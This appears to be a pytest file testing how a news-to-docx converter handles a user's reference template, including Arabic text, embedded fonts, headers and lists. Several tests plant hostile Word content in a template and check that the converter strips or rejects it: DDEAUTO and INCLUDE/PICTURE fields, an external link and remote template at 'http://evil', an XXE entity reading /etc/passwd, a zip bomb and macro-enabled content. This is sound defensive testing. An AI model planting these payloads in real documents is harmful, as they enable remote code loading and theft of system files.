"""`--reference-doc`: a user's own template, kind or hostile."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.shared import Cm, Pt
from fontTools.ttLib import TTFont
from lxml import etree
from PIL import Image

import newsconvert
from newsconvert.errors import OptionError
from newsconvert.model import Article, Paragraph, Text, Volume, article_text
from support import judges
from support.wordfiles import W, embedded

R = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"


@pytest.fixture
def template(tmp_path: Path) -> Path:
    document = docx.Document()
    document.styles["Heading 2"].font.name = "House Kufi"
    document.styles["Heading 2"].font.size = Pt(31)
    section = document.sections[0]
    section.page_width, section.page_height = Cm(17), Cm(24)
    section.left_margin = Cm(2.2)
    header = section.header.paragraphs[0]
    header.text = "ترويسة الدار"
    picture = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(picture, "PNG")
    header.add_run().add_picture(io.BytesIO(picture.getvalue()))
    path = tmp_path / "house.docx"
    document.save(str(path))
    return path


def rebuilt(path: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    change(files)
    made = path.with_name("changed.docx")
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return made


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_template_is_kept_and_completed(article: Article, template: Path, tmp_path: Path) -> None:
    data = newsconvert.write(article, "docx", reference_doc=template)
    path = tmp_path / "a.docx"
    path.write_bytes(data)
    assert judges.openxml_audit(path) == []
    read = docx.Document(str(path))
    assert (read.styles["Heading 2"].font.name, read.styles["Heading 2"].font.size) == ("House Kufi", Pt(31))
    assert read.styles["Kicker"].style_id == "Kicker"
    section = read.sections[0]
    assert (section.page_width.cm, section.page_height.cm) == pytest.approx((17, 24), abs=0.01)
    assert section.left_margin.cm == pytest.approx(2.2, abs=0.01)
    assert section.header.paragraphs[0].text == "ترويسة الدار"
    found = parts(data)
    assert [name for name in found if name.startswith("word/media/")] == ["word/media/image1.png"]
    want = list(article_text(article))
    lines = [p.text for p in read.paragraphs]
    assert [line for line in lines if line in want] == want
    for paragraph in etree.fromstring(found["word/document.xml"]).iter(f"{W}p"):
        style = paragraph.find(f"{W}pPr/{W}pStyle").get(f"{W}val")
        assert any(known.style_id == style for known in read.styles), style
        assert paragraph.find(f"{W}pPr/{W}bidi") is not None


def test_lists_of_the_template_and_ours_are_apart(article: Article, template: Path) -> None:
    found = parts(newsconvert.write(article, "docx", reference_doc=template))
    numbering = etree.fromstring(found["word/numbering.xml"])
    for tag, name in (("abstractNum", "abstractNumId"), ("num", "numId")):
        numbers = [e.get(f"{W}{name}") for e in numbering.iterfind(f"{W}{tag}")]
        assert len(set(numbers)) == len(numbers)
    used = {e.get(f"{W}val") for e in etree.fromstring(found["word/document.xml"]).iter(f"{W}numId")}
    assert used <= {e.get(f"{W}numId") for e in numbering.iterfind(f"{W}num")}


def test_volume_in_a_template(article: Article, template: Path, tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    path.write_bytes(newsconvert.bind(Volume("مجلد", (article, article)), "docx", reference_doc=template).value)
    assert judges.openxml_audit(path) == []


def test_our_own_document_can_be_the_template(article: Article, tmp_path: Path) -> None:
    path = tmp_path / "own.docx"
    path.write_bytes(newsconvert.write(article, "docx", theme="book", digits="arabic"))
    data = newsconvert.write(article, "docx", reference_doc=path, digits="arabic")
    assert data == newsconvert.write(article, "docx", reference_doc=path, digits="arabic")
    found = parts(data)
    assert sum(name.endswith(".odttf") for name in found) >= 3
    (tmp_path / "b.docx").write_bytes(data)
    assert judges.openxml_audit(tmp_path / "b.docx") == []


def test_fonts_of_our_own_document_have_the_letters_of_the_new_text(tmp_path: Path) -> None:
    path = tmp_path / "own.docx"
    path.write_bytes(newsconvert.write(Article("عنوان", (Paragraph((Text("نص."),)),)), "docx"))
    text = "﴿وَإِذۡ﴾ ٱلۡأَرۡضِ — ھ ٹ"
    data = newsconvert.write(Article("آية", (Paragraph((Text(text),)),)), "docx", reference_doc=path)
    font = TTFont(io.BytesIO(embedded(data)["Amiri", "embedRegular"]))
    assert set(map(ord, text)) - {ord(" ")} <= set(font.getBestCmap())


def test_nothing_in_a_hostile_template_acts(article: Article, template: Path, tmp_path: Path) -> None:
    def poison(files: dict[str, bytes]) -> None:
        header = next(name for name in files if re.fullmatch(r"word/header\d+\.xml", name))
        bad = (
            b'<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>'
            b'<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\x "><w:r><w:t>dde</w:t></w:r></w:fldSimple></w:p>'
            b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r>'
            b'<w:instrText>PICTURE "http://evil/x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            b'<w:p><w:r><w:object><w:control r:id="rIdY"/></w:object></w:r></w:p></w:hdr>'
        )
        files[header] = files[header].replace(b"</w:hdr>", bad)
        rels = f"word/_rels/{header.removeprefix('word/')}.rels"
        more = (
            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
            b'Target="http://evil/" TargetMode="External"/></Relationships>'
        )
        files[rels] = files[rels].replace(b"</Relationships>", more)
        files["word/_rels/settings.xml.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
        )

    data = newsconvert.write(article, "docx", reference_doc=rebuilt(template, poison))
    found = parts(data)
    everything = b"".join(content for name, content in found.items() if not name.startswith("word/fonts/"))
    for trace in (b"evil", b"DDEAUTO", b"INCLUDE", b"rIdX", b"rIdY", b"attachedTemplate"):
        assert trace not in everything
    assert "dde" in found["word/header1.xml"].decode()
    path = tmp_path / "a.docx"
    path.write_bytes(data)
    assert judges.openxml_audit(path) == []


def test_template_with_values_that_the_schema_forbids(article: Article, template: Path) -> None:
    def spoil(files: dict[str, bytes]) -> None:
        odd = b'<w:style w:type="?" w:styleId="x"><w:name/></w:style><w:style><w:name w:val="y"/></w:style></w:styles>'
        styles = files["word/styles.xml"].replace(b"</w:styles>", odd)
        files["word/styles.xml"] = styles.replace(b'w:styleId="ListBullet"', b'w:styleId="a\'] | b"')
        files["word/document.xml"] = re.sub(rb'w:(w|h|left)="\d+"', rb'w:\1="wide"', files["word/document.xml"])

    data = newsconvert.write(article, "docx", reference_doc=rebuilt(template, spoil))
    assert article.headline in [paragraph.text for paragraph in docx.Document(io.BytesIO(data)).paragraphs]


def test_two_headers_of_a_template_share_a_picture(article: Article, template: Path) -> None:
    document = docx.Document(str(template))
    section = document.sections[0]
    section.different_first_page_header_footer = True
    _, image = section.first_page_header.part.get_or_add_image(
        io.BytesIO(parts(template.read_bytes())["word/media/image1.png"])
    )
    assert image.px_width == 8
    document.save(str(template))
    data = newsconvert.write(article, "docx", reference_doc=template)
    assert [name for name in parts(data) if name.startswith("word/media/")] == ["word/media/image1.png"]
    read = docx.Document(io.BytesIO(data)).sections[0]
    assert read.different_first_page_header_footer
    for header in (read.header, read.first_page_header):
        assert [one.target_ref for one in header.part.rels.values()] == ["media/image1.png"]


def _macros(files: dict[str, bytes]) -> None:
    files["[Content_Types].xml"] = files["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
    )


def _entities(files: dict[str, bytes]) -> None:
    files["word/styles.xml"] = files["word/styles.xml"].replace(
        b"<w:styles", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:styles', 1
    )


def _bomb(files: dict[str, bytes]) -> None:
    files["word/bomb.xml"] = b"\0" * (33 << 20)


def _broken_styles(files: dict[str, bytes]) -> None:
    files["word/styles.xml"] = b"<w:styles"


def _no_document(files: dict[str, bytes]) -> None:
    del files["word/document.xml"]


@pytest.mark.parametrize(
    ("change", "message"),
    [(_macros, "macros"), (_entities, "document type"), (_bomb, "unpacks"), (_broken_styles, "styles.xml"),
     (_no_document, "no Word document")],
)  # fmt: skip
def test_template_that_cannot_be_used_is_named(
    article: Article, template: Path, change: Callable[[dict[str, bytes]], None], message: str
) -> None:
    path = rebuilt(template, change)
    with pytest.raises(OptionError, match=message) as caught:
        newsconvert.write(article, "docx", reference_doc=path)
    assert str(path) in str(caught.value)


def test_file_that_is_no_document_is_named(article: Article, tmp_path: Path) -> None:
    path = tmp_path / "x.docx"
    with pytest.raises(OptionError, match="cannot be read"):
        newsconvert.write(article, "docx", reference_doc=path)
    for data in (b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0 encrypted"):
        path.write_bytes(data)
        with pytest.raises(OptionError, match="no Word document"):
            newsconvert.write(article, "docx", reference_doc=path)
